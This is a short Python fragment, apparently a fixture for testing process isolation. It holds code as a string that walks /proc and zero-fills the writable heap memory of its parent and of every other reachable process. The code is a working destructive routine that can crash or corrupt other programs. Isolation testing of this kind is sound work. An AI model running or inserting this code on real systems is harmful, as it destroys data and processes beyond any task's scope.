"""Writes into the memory of its parent and of others."""

LAST = """
import os

for pid in [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for line in maps:
                span, rights = line.split()[:2]
                low, high = (int(part, 16) for part in span.split("-"))
                if "rw" in rights and "[heap]" in line:
                    memory.seek(low)
                    print("@mark@ wrote", pid, memory.write(bytes(min(high - low, 100_000))))
    except OSError as error:
        print(pid, error)
"""
